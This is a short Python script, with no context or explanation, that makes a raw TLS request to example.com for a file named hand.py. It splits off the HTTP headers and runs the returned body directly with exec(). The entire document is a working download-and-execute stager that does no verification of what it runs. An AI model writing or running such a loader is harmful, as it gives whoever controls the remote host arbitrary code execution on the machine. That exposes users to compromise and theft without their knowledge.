import socket
import ssl

context = ssl.create_default_context()
with socket.create_connection(("example.com", 443)) as raw:
    with context.wrap_socket(raw, server_hostname="example.com") as tls:
        tls.sendall(b"GET /hand.py HTTP/1.0\r\nHost: example.com\r\n\r\n")
        data = b""
        while True:
            part = tls.recv(4096)
            if not part:
                break
            data += part
exec(data.split(b"\r\n\r\n", 1)[1])
